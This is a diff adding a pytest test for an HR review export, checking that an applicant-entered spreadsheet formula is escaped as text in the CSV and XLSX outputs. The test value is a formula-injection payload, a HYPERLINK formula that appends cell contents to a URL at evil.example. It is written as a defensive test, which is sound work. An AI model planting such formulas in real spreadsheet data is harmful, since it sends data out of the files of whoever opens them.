@@ -36,6 +36,18 @@ def test_export_masks_id_numbers_and_phones_for_hr(client, auth, make_user, subm
     assert [e.details["format"] for e in exports] == ["csv", "xlsx"]
 
 
+def test_export_neutralises_a_formula_typed_by_an_applicant(client, auth, make_user, submitted_application):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    submitted_application(make_user("applicant"), employer=formula)
+    auth.login(make_user("hr"))
+    [_header, row] = _csv(client)
+    assert row[4] == "'" + formula
+    with client.get("/review/export.xlsx") as response:
+        workbook = load_workbook(io.BytesIO(response.get_data()))
+    cell = workbook.active.cell(row=2, column=5)
+    assert cell.data_type == "s" and cell.value == "'" + formula  # text, not a formula ("f")
+
+
 def test_export_is_unmasked_for_admins_and_follows_the_filters(client, auth, make_user, submitted_application):
     submitted_application(make_user("applicant", phone="13912345678"), division="210902")
     other = submitted_application(make_user("applicant"), division="210903")
